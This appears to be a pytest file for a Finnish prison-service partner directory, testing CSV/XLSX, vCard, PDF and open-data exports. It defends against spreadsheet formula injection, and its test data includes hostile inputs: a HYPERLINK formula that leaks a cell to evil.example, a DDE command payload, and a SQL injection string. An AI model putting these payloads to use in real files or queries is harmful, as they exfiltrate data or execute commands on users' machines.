"""Exports: CSV and XLSX lists that never run formulas, vCards, the PDF directory, the open-data file."""

from __future__ import annotations

import csv
import io
import sqlite3
import zipfile

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from registry.directory import exports
from registry.directory.models import ContactKind, PartnerCategory
from tests.conftest import post

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Klikkaa")', "+SUM(1,2)", "-1+1", "@cmd|' /C calc'!A0",
           "\tSarkain ry", "\rRivinvaihto ry", " =1+1"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "Finnish Excel needs the BOM to read UTF-8"
    text = data[3:].decode("utf-8")
    assert "\r\n" in text
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.fixture
def hostile(app, reference, make_partner, make_contact):
    ids = [make_partner(name, category=PartnerCategory.FOUNDATION) for name in HOSTILE]
    make_partner("Tavallinen yhdistys ry", regions=("HKI",))
    make_contact("=Nimi Kaava", partner_id=ids[0], title="+Johtaja", email="kaava@example.fi",
                 phone="+358 40 123 4567", mobile="+46 8 123 456 78", keywords=("@tiimi", "päihteet"))
    return ids


def test_csv_export_is_excel_friendly_and_no_cell_runs_as_a_formula(app, hostile, client_as):
    client = client_as("staff")
    post(client, "/language", {"lang": "en"})
    response = client.get("/directory/partners.csv?active=all")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="partners-')
    rows = _csv_rows(response.get_data())
    assert len(rows[0]) == 11 and rows[0][0] == "Name in Finnish"
    names = [row[0] for row in rows[1:]]
    for value in HOSTILE:
        assert "'" + value in names, value
    assert "Tavallinen yhdistys ry" in names  # ordinary text is untouched
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA) and not cell.lstrip(" ").startswith(FORMULA), cell

    contacts = _csv_rows(client.get("/directory/contacts.csv").get_data())
    header, (row,) = contacts[0], contacts[1:]
    values = dict(zip(header, row, strict=True))
    assert values["Name"] == "'=Nimi Kaava" and values["Title"] == "'+Johtaja"
    assert values["Phone"] == "040 1234567"  # Finnish numbers: readable and safe as they are
    assert values["Mobile phone"] == "'+46 8 123 456 78"  # foreign: a leading + would start a formula
    assert values["Competence keywords"] == "'@tiimi, päihteet"
    assert values["Partner's name"].startswith("'=HYPERLINK")


def test_phone_cells_in_csv():
    assert exports.csv_phone("+358401234567") == "040 1234567"
    assert exports.csv_phone("+358295688500") == "029 5688500"
    assert exports.csv_phone("+46812345678") == "'+46 8 123 456 78"
    assert exports.csv_phone(None) == ""


def test_xlsx_export_has_only_string_cells(app, hostile, client_as):
    client = client_as("staff")
    post(client, "/language", {"lang": "en"})
    response = client.get("/directory/partners.xlsx?active=all")
    assert response.status_code == 200 and response.headers["Content-Disposition"].endswith('.xlsx"')
    data = response.get_data()
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    assert 'quotePrefix="1"' in zipfile.ZipFile(io.BytesIO(data)).read("xl/styles.xml").decode()
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and all(cell.data_type == "s" for cell in cells)
    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
    for value in HOSTILE:  # the exact text, no apostrophe: a string cell cannot be a formula (XML reads CR as LF)
        assert value.replace("\r", "\n") in names

    contacts = load_workbook(io.BytesIO(client.get("/directory/contacts.xlsx").get_data())).active
    header = [c.value for c in contacts[1]]
    row = dict(zip(header, [c.value for c in contacts[2]], strict=True))
    assert row["Name"] == "=Nimi Kaava" and row["Phone"] == "040 1234567" and row["Mobile phone"] == "+46 8 123 456 78"
    assert all(c.data_type == "s" for c in contacts[2] if c.value is not None)


def test_exports_use_the_list_filters(app, hostile, client_as, make_partner, make_contact):
    inactive = make_partner("Lopettanut ry", active=False)
    make_contact("Liisa Lopettanut", partner_id=inactive)
    client = client_as("staff")

    def names(url: str) -> list[str]:
        return [row[0] for row in _csv_rows(client.get(url).get_data())[1:]]

    assert names("/directory/partners.csv?region=HKI") == ["Tavallinen yhdistys ry"]
    assert "Lopettanut ry" not in names("/directory/partners.csv")  # active only by default, as in the lists
    assert names("/directory/partners.csv?active=0") == ["Lopettanut ry"]
    assert len(names("/directory/partners.csv?category=foundation")) == len(HOSTILE)
    assert names("/directory/partners.csv?category=association&region=HKI&level=regional") == [
        "Tavallinen yhdistys ry"]
    # Partner filters select the partners; the active filter applies to the contacts themselves.
    assert names("/directory/contacts.csv?category=association") == ["Liisa Lopettanut"]
    assert names("/directory/contacts.csv?category=foundation") == ["'=Nimi Kaava"]
    for hostile_value in ["'; DROP TABLE partner; --", "99999999999999999999", "x" * 5000, "%00"]:
        for url in ("/directory/partners.csv", "/directory/contacts.xlsx"):
            response = client.get(url, query_string={"region": hostile_value, "category": hostile_value,
                                                     "theme": hostile_value, "active": hostile_value})
            assert response.status_code == 200


def test_exports_need_sign_in(app, reference):
    for url in ("/directory/partners.csv", "/directory/contacts.xlsx", "/directory/contacts/1.vcf",
                "/directory/centres/1/directory.pdf", "/directory/transfer"):
        response = app.test_client().get(url)
        assert response.status_code == 302 and "/login" in response.headers["Location"]


# --- vCard ------------------------------------------------------------------------------------------


def test_vcard_escaping():
    assert exports.vcard_escape("Virtanen, Matti; jr.\\x\nrivi") == "Virtanen\\, Matti\\; jr.\\\\x\\nrivi"


def test_vcard_of_a_contact(app, reference, client_as, make_partner, make_contact):
    partner = make_partner("Säätiö; Turva, Apu sr")
    long_title = "Erityisasiantuntija, rikosseuraamusalan kokemusasiantuntijatoiminnan kehittäminen; projektit"
    contact = make_contact("Matti Meikäläinen", partner_id=partner, title=long_title, email="matti@example.fi",
                           phone="09 123 4567", mobile="+46 8 123 456 78", keywords=("päihteet", "asuminen"))
    response = client_as("staff").get(f"/directory/contacts/{contact}.vcf")
    assert response.status_code == 200 and response.mimetype == "text/vcard"
    assert response.headers["Content-Disposition"] == 'attachment; filename="matti-meikalainen.vcf"'
    raw = response.get_data()
    assert all(len(line) <= 75 for line in raw.split(b"\r\n")), "lines are folded at 75 octets"
    text = raw.decode("utf-8").replace("\r\n ", "")  # unfold
    lines = text.split("\r\n")
    assert lines[:2] == ["BEGIN:VCARD", "VERSION:4.0"] and lines[-2:] == ["END:VCARD", ""]
    assert "FN:Matti Meikäläinen" in lines and "N:Meikäläinen;Matti;;;" in lines
    assert "ORG:Säätiö\\; Turva\\, Apu sr" in lines
    assert ("TITLE:Erityisasiantuntija\\, rikosseuraamusalan kokemusasiantuntijatoiminnan kehittäminen\\; "
            "projektit") in lines
    assert "EMAIL;TYPE=work:matti@example.fi" in lines
    assert "TEL;VALUE=uri;TYPE=work,voice:tel:+35891234567" in lines
    assert "TEL;VALUE=uri;TYPE=cell:tel:+46812345678" in lines
    assert "CATEGORIES:asuminen,päihteet" in lines
    assert any(line.startswith("REV:") and line.endswith("Z") and len(line) == len("REV:20260101T120000Z")
               for line in lines)
    client = client_as("staff")
    assert client.get("/directory/contacts/999999.vcf").status_code == 404
    assert client.get("/directory/contacts/99999999999999999999.vcf").status_code == 404


def test_vcard_of_a_mailbox(app, reference, client_as, make_contact):
    box = make_contact("Helsingin vankila, kirjaamo", unit="HELV", kind=ContactKind.MAILBOX,
                       email="kirjaamo.helsinki@rise.example")
    text = client_as("staff").get(f"/directory/contacts/{box}.vcf").get_data(as_text=True)
    sami = make_contact("Áilu Čđŋšŧž", unit="HELV")
    response = client_as("staff").get(f"/directory/contacts/{sami}.vcf")
    assert response.headers["Content-Disposition"] == 'attachment; filename="ailu-csz.vcf"'
    assert "FN:Áilu Čđŋšŧž" in response.get_data(as_text=True)
    assert "KIND:group" in text and "FN:Helsingin vankila\\, kirjaamo" in text and "\nN:" not in text
    assert "ORG:Prison and Probation Service of Finland;Helsinki Prison" in text.replace("\r\n ", "") or \
        "ORG:Rikosseuraamuslaitos;Helsingin vankila" in text.replace("\r\n ", "")


# --- PDF ----------------------------------------------------------------------------------------------


SAMI = "Áilu Čđŋšŧž Gáldu"


@pytest.fixture
def centre_data(app, reference, make_partner, make_contact):
    make_contact(SAMI, unit="ESRSK", title="Yhteyshenkilö", phone="029 56 88500", email="ailu@rise.example")
    make_contact("Åsa Öberg", unit="HELV", title="Kontaktperson för Ålands ärenden", mobile="+358 40 123 4567")
    make_contact("Poistunut Pentti", unit="HELV", active=False)
    near = make_partner("Pääkaupunkiseudun Äänekäs Yhdistys ry", regions=("HKI",), business_id="1234560-4")
    make_contact("Järjestö Jäsen", partner_id=near, email="jj@example.fi")
    far = make_partner("Lapin Kaukainen ry", regions=("LAP",))
    make_contact("Kaukainen Kalle", partner_id=far)


def _centre_id(app, code: str) -> int:
    from registry.core.services import unit_by_code

    with app.app_context():
        return unit_by_code(code).id


def _pdf_text(data: bytes) -> tuple[str, set[str]]:
    reader = PdfReader(io.BytesIO(data))
    text = "\n".join(page.extract_text() for page in reader.pages)
    fonts = set()
    for page in reader.pages:
        for font in page["/Resources"]["/Font"].values():
            fonts.add(str(font.get_object()["/BaseFont"]))
    return text, fonts


def test_pdf_directory_renders_finnish_swedish_and_sami_letters(app, centre_data, client_as):
    client = client_as("staff")
    response = client.get(f"/directory/centres/{_centre_id(app, 'ESRSK')}/directory.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="contact-directory-esrsk-')
    text, fonts = _pdf_text(response.get_data())
    assert fonts and all("DejaVuSans" in f for f in fonts), fonts  # the shipped font, embedded
    for expected in (SAMI, "Åsa Öberg", "Kontaktperson för Ålands ärenden", "040 1234567", "029 5688500",
                     "Pääkaupunkiseudun Äänekäs Yhdistys ry", "Järjestö Jäsen", "Helsingin vankila",
                     "Etelä-Suomen rikosseuraamuskeskus"):
        assert expected in text, expected
    assert "Poistunut Pentti" not in text and "Lapin Kaukainen" not in text and "Kaukainen Kalle" not in text


def test_pdf_title_is_in_the_ui_language(app, centre_data, client_as):
    client = client_as("staff")
    post(client, "/language", {"lang": "sv"})
    text, _fonts = _pdf_text(client.get(f"/directory/centres/{_centre_id(app, 'ESRSK')}/directory.pdf").get_data())
    assert "Brottspåföljdscentralen i Södra Finland" in text.split("\n")[0]
    assert "Helsingfors fängelse" in text


def test_pdf_only_for_sanction_centres(app, reference, client_as):
    client = client_as("staff")
    assert client.get(f"/directory/centres/{_centre_id(app, 'HELV')}/directory.pdf").status_code == 404
    assert client.get("/directory/centres/0/directory.pdf").status_code == 404
    assert client.get("/directory/centres/99999999999/directory.pdf").status_code == 404


# --- open data ----------------------------------------------------------------------------------------


def test_open_data_file_has_public_contacts_with_full_text_search(app, reference, make_partner, make_contact,
                                                                  tmp_path):
    partner = make_partner("Kokemusasiantuntijat ry")
    closed = make_partner("Suljettu ry", active=False)
    make_contact("Julkinen Jaana", partner_id=partner, public=True, title="Toiminnanjohtaja",
                 email="jaana@example.fi", phone="040 123 4567", keywords=("kokemusasiantuntijuus", "päihteet"))
    make_contact("Salainen Sami", partner_id=partner, public=False)
    make_contact("Entinen Eeva", partner_id=partner, public=True, active=False)
    make_contact("Suljetun Sirpa", partner_id=closed, public=True)
    make_contact("Hämeenlinnan kirjaamo", unit="HAMV", public=True, kind=ContactKind.MAILBOX,
                 email="kirjaamo.hameenlinna@rise.example")
    path = tmp_path / "avoin.db"
    runner = app.test_cli_runner()
    result = runner.invoke(args=["export", "open-data", str(path)])
    assert result.exit_code == 0, result.output
    assert "2 public contacts" in result.output

    conn = sqlite3.connect(path)
    try:
        rows = conn.execute("SELECT name, title, email, phone, organisation, keywords FROM contacts ORDER BY name")
        assert rows.fetchall() == [
            ("Hämeenlinnan kirjaamo", "", "kirjaamo.hameenlinna@rise.example", "",
             "Rikosseuraamuslaitos, Hämeenlinnan vankila", ""),
            ("Julkinen Jaana", "Toiminnanjohtaja", "jaana@example.fi", "040 1234567", "Kokemusasiantuntijat ry",
             "kokemusasiantuntijuus, päihteet"),
        ]

        def search(q: str) -> list[str]:
            return [r[0] for r in conn.execute(
                "SELECT contacts.name FROM contacts_fts JOIN contacts ON contacts.rowid = contacts_fts.rowid "
                "WHERE contacts_fts MATCH ? ORDER BY rank", (q,))]

        assert search("paihteet") == ["Julkinen Jaana"]  # without diacritics
        assert search("Hämeenlinnan") == ["Hämeenlinnan kirjaamo"]
        assert search("toiminnanjohtaja") == ["Julkinen Jaana"]
        assert search("Salainen") == []
        sql = conn.execute("SELECT sql FROM sqlite_master WHERE name = 'contacts_fts'").fetchone()[0]
        assert "fts5" in sql.lower()
    finally:
        conn.close()

    again = runner.invoke(args=["export", "open-data", str(path)])
    assert again.exit_code != 0 and "--force" in again.output
    forced = runner.invoke(args=["export", "open-data", str(path), "--force"])
    assert forced.exit_code == 0, forced.output
    assert not list(tmp_path.glob(".*tmp"))
